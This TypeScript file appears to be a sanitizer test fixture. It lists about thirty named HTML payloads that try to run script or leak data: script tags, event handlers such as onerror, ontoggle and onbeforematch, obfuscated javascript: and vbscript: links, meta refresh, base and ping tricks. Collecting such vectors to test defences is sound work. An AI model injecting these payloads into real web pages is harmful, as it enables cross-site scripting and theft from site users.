import { type AttackRow, leak, run, runData } from './Attack'

/** Bodies that try to run a script: by an element, an event, an address. */
export const scriptAttacks: readonly AttackRow[] = [
  ['script element', `<p>a</p><script>${run}</script>`],
  ['script with address', `<script src="${leak('script')}"></script>`],
  ['script with broken end', `<script>${run}</script foo bar>`],
  ['script in upper case with a slash', `<SCRIPT/X SRC="${leak('slash')}"></SCRIPT>`],
  ['module script', `<script type="module">${run}</script>`],
  [
    'import map and speculation rules',
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${leak('spec')}"]}]}</script>`,
  ],
  ['event on a broken picture', `<img src="x:x" onerror="${run}">`],
  ['event without quotes and with slashes', `<img/src=x:x/onerror=${run}>`],
  ['event on load of a style', `<style onload="${run}">p{color:red}</style>`],
  ['event on toggle', `<details open ontoggle="${run}"><summary>x</summary>y</details>`],
  ['event on focus with autofocus', `<a href="#" autofocus tabindex="0" onfocus="${run}">x</a>`],
  ['event on pointer', `<div onpointerover="${run}" onmouseover="${run}" onclick="${run}">touch me</div>`],
  [
    'event on animation',
    `<style>@keyframes k{from{left:0}}</style><b style="animation:k 1s" onanimationstart="${run}">x</b>`,
  ],
  ['event on transition', `<b style="transition:color 1ms;color:red" ontransitionend="${run}">x</b>`],
  [
    'event on scroll end',
    `<div style="overflow:scroll;height:9px" onscroll="${run}" onscrollend="${run}"><p>x<p>y</div>`,
  ],
  [
    'event on body',
    `<body onload="${run}" onpageshow="${run}" onresize="${run}" onhashchange="${run}">x</body>`,
  ],
  [
    'event on hidden until found',
    `<div hidden="until-found" onbeforematch="${run}" id="x">x</div><a href="#x">go</a>`,
  ],
  [
    'event on content visibility',
    `<div style="content-visibility:auto" oncontentvisibilityautostatechange="${run}">x</div>`,
  ],
  ['event on marquee', `<marquee onstart="${run}" onfinish="${run}" loop=1>x</marquee>`],
  [
    'event on popover',
    `<button popovertarget=p>open</button><div popover id=p onbeforetoggle="${run}">x</div>`,
  ],
  ['javascript link', `<a href="javascript:${run}">x</a>`],
  [
    'javascript link with entities and control letters',
    `<a href="&#1;java&Tab;scr&NewLine;ipt&colon;${run}">x</a>`,
  ],
  ['javascript link in mixed case after blanks', `<a href="   jAvAsCrIpT:${run}">x</a>`],
  ['vbscript and data links', `<a href="vbscript:${run}">x</a><a href="${runData}">y</a>`],
  ['blob and filesystem links', `<a href="blob:http://x/1">x</a><a href="filesystem:http://x/1">y</a>`],
  [
    'javascript in an area',
    `<img usemap="#m" width=90 height=90 src="x:"><map name="m"><area shape="default" href="javascript:${run}"></map>`,
  ],
  ['ping of a link', `<a href="https://a.example/" ping="${leak('ping')}">x</a>`],
  ['base', `<base href="javascript:${run}//"><base target="_top"><a href="/x">x</a>`],
  ['refresh', `<meta http-equiv="refresh" content="0;url=${leak('refresh')}">`],
  ['refresh to a script', `<meta http-equiv="refresh" content="0;url=javascript:${run}">`],
  [
    'policy of its own',
    `<meta http-equiv="Content-Security-Policy" content="report-uri ${leak('report')}; img-src 'none'">`,
  ],
]
